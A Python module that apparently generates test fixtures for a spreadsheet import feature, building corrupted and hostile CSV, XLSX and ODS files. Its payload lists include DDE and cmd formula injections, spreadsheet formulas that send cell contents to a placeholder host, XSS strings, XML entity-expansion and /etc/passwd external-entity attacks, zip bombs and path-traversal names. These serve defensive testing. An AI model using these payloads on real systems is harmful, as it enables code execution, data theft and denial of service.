"""Files that nobody wishes to receive: good ones of the eight templates, damaged or armed in every way, always the same.

Each is known by its number. What is done to the cells is done before they are written as CSV, XLSX or ODS, so that the
rows a file holds are known; what is done to the bytes comes after.
"""

import codecs
import csv
import io
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from html import escape

from xlsxwriter import Workbook

from cuf_metrics.imports.modeles import MODELES

COMMUNES = (("Rennes", "35"), ("Brest", "29"), ("Nantes", "44"), ("Lyon", "69"), ("Lille", "59"), ("Dijon", "21"))
FORMULES = (
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://exemple.org/?"&A1,"Ouvrir")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("http://exemple.org/?";A1);"//a")',
)
BALISES = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "[ici](javascript:alert(1))",
    "![x](http://exemple.org/x.png)",
    "</style><style>*{display:none}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "{{7*7}} ${7*7} :red[rouge] $\\frac{1}{2}$",
)
INVISIBLES = ("\u202egnp.eslaf", "a\u200bb\ufeffc", "\ufffe", "e\u0301" * 40, "\u2066x\u2069", "\ud7ff\U0010ffff")
NOMBRES = ("9" * 400, "1e308", "-1e999", "NaN", "∞", "1.7976931348623157e+309", "0x7fffffff", "١٢٣", "1_000", "--5")
DATES = ("00/00/0000", "31/12/1899", "01/01/10000", "31/12/9999", "29/02/2023", "-1", "2958466", "1e5", "60", "12:61")
ERREURS = ("#REF!", "#DIV/0!", "#N/A", "#VALEUR!", "#NOM?", "Err:502", "#PROPAGATION!")
PERSONNELLES = (
    "prenom.nom@exemple.org",
    "06 12 34 56 78",
    "+33612345678",
    "Contact : a.b@exemple.fr (tél. 0145678901)",
)
Cellules = list[list[str]]
Alea = random.Random


@dataclass(frozen=True)
class Hostile:
    """A file: its name, the table it is said to fill, what was done to it, its bytes.

    `lignes` is how many rows under the header hold something else than it; None where its bytes were damaged.
    """

    nom: str
    table: str
    sorte: str
    octets: bytes
    lignes: int | None


def good_rows(table: str, lines: int = 6) -> Cellules:
    """The header of a template and rows that can be published."""
    columns = [column for column in MODELES[table].colonnes if column.proposee]
    rows = [[column.entete for column in columns]]
    for rank in range(lines):
        commune, departement = COMMUNES[rank % len(COMMUNES)]
        own = {"Collectivité": commune, "Donateur": commune, "Collectivité française": commune}
        own |= {"Département": departement, "Partenaire": f"Commune partenaire {rank}"}
        own["Date du relevé"] = f"{rank + 1:02}/03/2025"
        if table in ("reunions", "publications"):
            own["Titre"] = f"Exemple numéro {rank}"
        if table == "participations":
            own["Réunion"] = "Exemple numéro 0"
        rows.append([own.get(column.entete, column.exemple) for column in columns])
    return rows


# Cells


def _cell(rows: Cellules, alea: Alea, values: tuple[str, ...], several: int = 3) -> None:
    for _ in range(several):
        row = alea.choice(rows[1:])
        row[alea.randrange(len(row))] = alea.choice(values)


def _shuffled(rows: Cellules, alea: Alea) -> None:
    order = alea.sample(range(len(rows[0])), len(rows[0]))
    rows[:] = [[row[rank] for rank in order] for row in rows]


def _doubled_column(rows: Cellules, alea: Alea) -> None:
    rank = alea.randrange(len(rows[0]))
    for row in rows:
        row.append(row[rank])


def _lost_column(rows: Cellules, alea: Alea) -> None:
    rank = alea.randrange(len(rows[0]))
    for row in rows:
        del row[rank]


def _misspelt(rows: Cellules, alea: Alea) -> None:
    for _ in range(2):
        rank = alea.randrange(len(rows[0]))
        name = rows[0][rank]
        at = alea.randrange(len(name) + 1)
        rows[0][rank] = alea.choice((name[:at] + name[at + 1 :], name[:at] + "xq" + name[at:], name.upper(), "", "?"))


def _headers(values: tuple[str, ...]) -> Callable[[Cellules, Alea], None]:
    def changed(rows: Cellules, alea: Alea) -> None:
        rank = alea.randrange(len(rows[0]))
        rows[0][rank] = alea.choice((alea.choice(values), f"{rows[0][rank]} {alea.choice(values)}"))

    return changed


def _blank(rows: Cellules, alea: Alea) -> None:
    for _ in range(4):
        rows.insert(alea.randrange(1, len(rows) + 1), [alea.choice(("", " ", "\u00a0"))] * len(rows[0]))


def _again(rows: Cellules, alea: Alea) -> None:
    for _ in range(2):
        rows.insert(alea.randrange(2, len(rows) + 1), list(rows[0]))


def _titles(rows: Cellules, alea: Alea) -> None:
    width = len(rows[0])
    for title in ("Édité le 3 mars", "", "Réseau des collectivités"):
        rows.insert(0, [title, *[""] * (width - 1)])


def _totals(rows: Cellules, alea: Alea) -> None:
    for label in ("Sous-total", "TOTAL"):
        rows.insert(alea.randrange(2, len(rows) + 1), [label, *[""] * (len(rows[0]) - 2), "12"])


def _repeated(rows: Cellules, alea: Alea) -> None:
    rows.append(list(alea.choice(rows[1:])))


def _ragged(rows: Cellules, alea: Alea) -> None:
    for row in alea.sample(rows[1:], 3):
        row[:] = alea.choice((row[:-2], [*row, "en trop"], [*row, "", ""]))


def _wide(rows: Cellules, alea: Alea) -> None:
    extra = alea.choice((30, 1_200))
    for rank, row in enumerate(rows):
        row += [f"colonne {n}" if not rank else "x" for n in range(extra)]


def _long(rows: Cellules, alea: Alea) -> None:
    _cell(rows, alea, ("é" * 40_000, "=" + "1+" * 20_000), 1)


def _header_only(rows: Cellules, alea: Alea) -> None:
    del rows[alea.choice((0, 1)) :]


def _negative(rows: Cellules, alea: Alea) -> None:
    for row in rows[1:]:
        row[:] = [f"-{cell}" if cell[:1].isdigit() else cell for cell in row]


def _said(values: tuple[str, ...]) -> Callable[[Cellules, Alea], None]:
    return lambda rows, alea: _cell(rows, alea, values)


CELLULES: dict[str, Callable[[Cellules, Alea], None]] = {
    "rien": lambda rows, alea: None,
    "formules": _said(FORMULES),
    "formules en en-tête": _headers(FORMULES),
    "balises": _said(BALISES),
    "balises en en-tête": _headers(BALISES),
    "invisibles": _said(INVISIBLES),
    "invisibles en en-tête": _headers(INVISIBLES),
    "nombres énormes": _said(NOMBRES),
    "dates impossibles": _said(DATES),
    "erreurs de formule": _said(ERREURS),
    "données personnelles": _said(PERSONNELLES),
    "montants négatifs": _negative,
    "colonnes mélangées": _shuffled,
    "colonne doublée": _doubled_column,
    "colonne perdue": _lost_column,
    "en-têtes mal écrits": _misspelt,
    "lignes vides": _blank,
    "en-tête répété": _again,
    "titres": _titles,
    "totaux": _totals,
    "ligne en double": _repeated,
    "lignes inégales": _ragged,
    "très large": _wide,
    "cellule longue": _long,
    "sans ligne": _header_only,
}


# Formats


def as_csv(rows: Cellules, separator: str = ";", end: str = "\r\n") -> str:
    """The cells as a text."""
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=separator, lineterminator=end).writerows(rows)
    return out.getvalue()


def as_xlsx(rows: Cellules, name: str = "Données") -> bytes:
    """The cells as a workbook, all texts; a cell that begins with « = » is a formula, with a value."""
    out = io.BytesIO()
    book = Workbook(out, {"in_memory": True, "strings_to_formulas": False, "strings_to_urls": False})
    sheet = book.add_worksheet(name)
    for number, row in enumerate(rows):
        for rank, cell in enumerate(row):
            if cell.startswith("="):
                sheet.write_formula(number, rank, cell[:8000], None, cell[:100])
            elif cell:
                sheet.write_string(number, rank, cell[:32_767])
    book.close()
    return out.getvalue()


ODS_DEBUT = (
    '<?xml version="1.0" encoding="UTF-8"?><office:document-content'
    ' xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
    '<office:spreadsheet><table:table table:name="Données">'
)
ODS_FIN = "</table:table></office:spreadsheet></office:body></office:document-content>"


def as_ods(rows: Cellules, after: str = "") -> bytes:
    """The cells as an ODS, all texts; `after`: rows of XML below them."""
    told = "".join(f"<table:table-row>{''.join(map(_ods_cell, row))}</table:table-row>" for row in rows)
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"} | _content(told + after))


def _content(rows: str) -> dict[str, bytes]:
    return {"content.xml": (ODS_DEBUT + rows + ODS_FIN).encode("utf-8", "replace")}


def _ods_cell(cell: str) -> str:
    plain = escape("".join(c for c in cell if (c >= " " and c not in "\ufffe\uffff") or c == "\t"))
    formula = f' table:formula="of:{plain}"' if cell.startswith("=") else ""
    return f'<table:table-cell office:value-type="string"{formula}><text:p>{plain}</text:p></table:table-cell>'


def zipped(parts: dict[str, bytes]) -> bytes:
    """An archive of these parts, always the same bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def parts_of(raw: bytes) -> dict[str, bytes]:
    """Name → content of the parts of an archive."""
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


# Bytes


def _cut(raw: bytes, alea: Alea) -> bytes:
    return raw[: alea.randrange(len(raw))]


def _beheaded(raw: bytes, alea: Alea) -> bytes:
    return raw[alea.randrange(1, len(raw)) :]


def _flipped(raw: bytes, alea: Alea) -> bytes:
    changed = bytearray(raw)
    for _ in range(alea.choice((1, 3, 40))):
        changed[alea.randrange(len(raw))] ^= 1 << alea.randrange(8)
    return bytes(changed)


def _nulled(raw: bytes, alea: Alea) -> bytes:
    at = alea.randrange(len(raw))
    return raw[:at] + b"\0" * alea.choice((1, 64)) + raw[at:]


def _twice(raw: bytes, alea: Alea) -> bytes:
    return raw + raw


def _noise(raw: bytes, alea: Alea) -> bytes:
    return raw[: alea.choice((0, 4, 8))] + alea.randbytes(alea.choice((0, 1, 300)))


def _quoted(raw: bytes, alea: Alea) -> bytes:
    at = alea.randrange(len(raw))
    return raw[:at] + b'"' + raw[at:]


OCTETS = {
    "tronqué": _cut,
    "décapité": _beheaded,
    "bits retournés": _flipped,
    "octets nuls": _nulled,
    "deux fois": _twice,
    "bruit": _noise,
    "guillemet perdu": _quoted,
}


def _encoded(name: str, bom: bytes = b"") -> Callable[[str], bytes]:
    return lambda text: bom + text.encode(name, "replace")


ENCODAGES: dict[str, Callable[[str], bytes]] = {
    "utf-8": _encoded("utf-8"),
    "utf-8 et marque": _encoded("utf-8", codecs.BOM_UTF8),
    "cp1252": _encoded("cp1252"),
    "mac roman": _encoded("mac-roman"),
    "utf-16": _encoded("utf-16"),
    "utf-16 sans marque": _encoded("utf-16-le"),
    "utf-16 à l’envers": _encoded("utf-16-be", codecs.BOM_UTF16_LE),
    "utf-32": _encoded("utf-32"),
    "utf-7": _encoded("utf-7"),
    "ebcdic": _encoded("cp500"),
    "mêlé": lambda text: text[:200].encode("utf-8") + text[200:].encode("cp1252", "replace"),
    "retours de chariot": lambda text: text.replace("\r\n", "\r").encode("utf-8"),
    "virgules": lambda text: text.replace(";", ",").encode("utf-8"),
    "marques au milieu": lambda text: text.replace("\r\n", "\r\n\ufeff").encode("utf-8"),
}


# Workbooks


def _part(raw: bytes, name: str, change: Callable[[bytes], bytes | None]) -> bytes:
    parts = parts_of(raw)
    changed = change(parts.get(name, b""))
    return zipped({**parts, name: changed} if changed is not None else {n: c for n, c in parts.items() if n != name})


FEUILLE, TEXTES = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
ENTITES = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%s;" % (b"%d" % (n - 1) if n else b"") * 10) for n in range(12))
    + b"]>"
)
EXTERNE = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a11 SYSTEM "file:///etc/passwd">]>'


def _with_entity(doctype: bytes) -> Callable[[bytes], bytes]:
    def armed(xml: bytes) -> bytes:
        body = xml.split(b"?>", 1)[-1]
        return doctype + body.replace(b"</t>", b"&a11;</t>", 1).replace(b"</text:p>", b"&a11;</text:p>", 1)

    return armed


def _dimension(xml: bytes) -> bytes:
    start, end = xml.index(b"<dimension"), xml.index(b"/>", xml.index(b"<dimension")) + 2
    return xml[:start] + b'<dimension ref="A1:XFD1048576"/>' + xml[end:]


def _far_cell(xml: bytes) -> bytes:
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>loin</t></is></c></row></sheetData>'
    return xml.replace(b"</sheetData>", far)


def _many_rows(xml: bytes) -> bytes:
    start = xml.index(b'<row r="2"')
    return xml[:start] + b"<row><c><v>1</v></c></row>" * 1_048_575 + xml[xml.index(b"</sheetData>") :]


def _ods_repeated(rows: str) -> Callable[[Cellules], bytes]:
    return lambda cells: as_ods(cells, rows)


def _cells(number: int, columns: int = 1, text: str = "x") -> str:
    return (
        f'<table:table-row table:number-rows-repeated="{number}"><table:table-cell office:value-type="string"'
        f' table:number-columns-repeated="{columns}"><text:p>{text}</text:p></table:table-cell></table:table-row>'
    )


def _flagged(raw: bytes) -> bytes:
    """Every part said to be locked."""
    changed = bytearray(raw)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.find(mark)
        while at >= 0:
            changed[at + place] |= 1
            at = raw.find(mark, at + 1)
    return bytes(changed)


CLASSEURS: dict[str, Callable[[Cellules], bytes]] = {
    "étendue mensongère": lambda rows: _part(as_xlsx(rows), FEUILLE, _dimension),
    "cellule au bout": lambda rows: _part(as_xlsx(rows), FEUILLE, _far_cell),
    "textes perdus": lambda rows: _part(as_xlsx(rows), TEXTES, lambda xml: None),
    "textes vides": lambda rows: _part(as_xlsx(rows), TEXTES, lambda xml: b""),
    "feuille perdue": lambda rows: _part(as_xlsx(rows), FEUILLE, lambda xml: None),
    "classeur perdu": lambda rows: _part(as_xlsx(rows), "xl/workbook.xml", lambda xml: b"<workbook/>"),
    "entités": lambda rows: _part(as_xlsx(rows), TEXTES, _with_entity(ENTITES)),
    "entité du disque": lambda rows: _part(as_xlsx(rows), TEXTES, _with_entity(EXTERNE)),
    "feuille ailleurs": lambda rows: _part(
        as_xlsx(rows), "xl/_rels/workbook.xml.rels", lambda xml: xml.replace(b"worksheets/sheet1.xml", b"../../etc/x")
    ),
    "bombe": lambda rows: _part(as_xlsx(rows), "xl/media/image1.png", lambda xml: b"\0" * (600 * 1024**2)),
    "bombe emboîtée": lambda rows: _part(
        as_xlsx(rows), "xl/embeddings/a.zip", lambda xml: zipped({"b.zip": zipped({"c": b"\0" * 50_000_000})})
    ),
    "un million de lignes": lambda rows: _part(as_xlsx(rows), FEUILLE, _many_rows),
    "macros": lambda rows: _part(as_xlsx(rows), "xl/vbaProject.bin", lambda xml: b"\xd0\xcf\x11\xe0 vba"),
    "archive verrouillée": lambda rows: _flagged(as_xlsx(rows)),
    "chiffré": lambda rows: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"EncryptedPackage" * 40,
    "ODS": as_ods,
    "ODS, lignes répétées": _ods_repeated(_cells(1_048_000)),
    "ODS, colonnes répétées": _ods_repeated(_cells(1_000, 16_384)),
    "ODS, vides répétés": _ods_repeated(_cells(1_048_000, 16_384, "").replace("<text:p></text:p>", "")),
    "ODS, répétition absurde": _ods_repeated(_cells(10**18)),
    "ODS, entités": lambda rows: _part(as_ods(rows), "content.xml", _with_entity(ENTITES)),
    "archive de rien": lambda rows: zipped({}),
    "archive de texte": lambda rows: zipped({"a.csv": as_csv(rows).encode()}),
}
# What takes seconds is done once.
LENTS = ("bombe", "un million de lignes", "ODS, lignes répétées", "ODS, vides répétés")
NOMS = (
    "{}",
    "<img src=x onerror=alert(1)>{}",
    "=cmd|' !A0'{}",
    "\u202e{}",
    "../../etc/{}",
    "[x](javascript:a){}",
    "é" * 200 + "{}",
)


def hostile(number: int) -> Hostile:
    """A file, by its number: the same one every time."""
    alea, tables = random.Random(number), list(MODELES)  # noqa: S311 — the same files every time
    table = tables[number % len(tables)]
    rank = number // len(tables)
    name = alea.choice(NOMS) if number % 5 == 0 else "{}"
    rows = good_rows(table)
    if rank % 5 == 4:
        kinds = [kind for kind in CLASSEURS if kind not in LENTS]
        kind = kinds[rank // 5 % len(kinds)]
        return Hostile(name.format(f"{table}.xlsx"), table, kind, CLASSEURS[kind](rows), None)
    kind = list(CELLULES)[rank % len(CELLULES)]
    CELLULES[kind](rows, alea)
    header = rows[3 if kind == "titres" else 0] if rows else []
    held = sum(row != header and any(cell.strip() for cell in row) for row in rows[3 if kind == "titres" else 1 :])
    form = rank % 4
    if form == 0:
        return Hostile(name.format(f"{table}.xlsx"), table, kind, as_xlsx(rows), held)
    if form == 1:
        return Hostile(name.format(f"{table}.csv"), table, kind, as_csv(rows).encode("utf-8", "replace"), held)
    if form == 2:
        encoding = alea.choice(list(ENCODAGES))
        return Hostile(
            name.format(f"{table}.csv"), table, f"{kind}, {encoding}", ENCODAGES[encoding](as_csv(rows)), None
        )
    damage = alea.choice(list(OCTETS))
    whole = alea.choice((as_csv(rows).encode("utf-8", "replace"), as_xlsx(rows), as_ods(rows)))
    return Hostile(name.format(table), table, f"{kind}, {damage}", OCTETS[damage](whole, alea), None)


def slow_ones() -> list[Hostile]:
    """The files that take seconds to make or to read, one of each."""
    return [Hostile(f"{kind}.xlsx", "adhesions", kind, CLASSEURS[kind](good_rows("adhesions")), None) for kind in LENTS]
